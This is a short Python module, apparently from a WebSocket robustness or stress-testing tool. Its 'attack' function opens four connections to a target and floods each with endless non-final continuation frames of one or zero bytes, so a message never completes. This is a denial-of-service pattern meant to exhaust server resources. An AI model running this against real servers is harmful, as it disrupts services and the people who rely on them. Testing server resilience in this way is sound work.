"""A message in fragments of one byte without end, and of none."""

from wire import websocket
from wire.link import link


async def attack(target):
    async def lane(number):
        async with link(target, target.source(number)) as it:
            if it:
                await websocket.upgraded(it)
                await it.send(websocket.frame(websocket.TEXT, b"a", final=0))
                burst = websocket.frame(websocket.CONTINUED, b"a" * (number % 2), final=0) * 1000
                while target.goes_on():
                    await it.send(burst)

    await target.lanes(4, lane)
